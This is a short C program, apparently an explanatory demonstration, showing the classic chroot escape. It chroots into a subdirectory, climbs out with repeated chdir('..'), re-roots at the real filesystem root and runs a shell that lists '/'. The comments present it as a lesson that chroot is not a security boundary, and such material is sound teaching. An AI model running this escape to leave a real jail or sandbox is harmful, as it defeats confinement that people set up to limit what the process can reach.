// What the classic programs get wrong: chroot as a wall. Walks out of whatever directory it has been locked into.
#define _GNU_SOURCE
#include <err.h>
#include <sys/stat.h>
#include <unistd.h>

// #region program
int main(void) {
    if (mkdir("x", 0700) < 0 && access("x", X_OK) < 0) err(1, "mkdir");
    // From here on the working directory lies outside of the root directory, and ".." is not stopped by it.
    if (chroot("x") < 0) err(1, "chroot");
    for (int i = 0; i < 100; i++)
        if (chdir("..") < 0) err(1, "chdir");
    if (chroot(".") < 0) err(1, "chroot");
    execl("/bin/sh", "sh", "-c", "echo /*", NULL);
    err(1, "sh");
}
// #endregion program
